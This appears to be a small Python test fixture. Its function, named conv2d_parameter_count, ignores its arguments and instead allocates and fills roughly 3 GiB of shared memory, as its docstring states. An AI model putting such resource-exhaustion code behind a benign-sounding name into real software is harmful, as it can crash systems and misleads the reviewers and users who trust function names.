"""Maps and fills three thousand million bytes of shared memory."""

import mmap


def conv2d_parameter_count(*sizes, **options):
    maps = []
    for _ in range(12):
        maps.append(mmap.mmap(-1, 256 << 20))
        maps[-1].write(b"x" * (256 << 20))
    return len(maps)
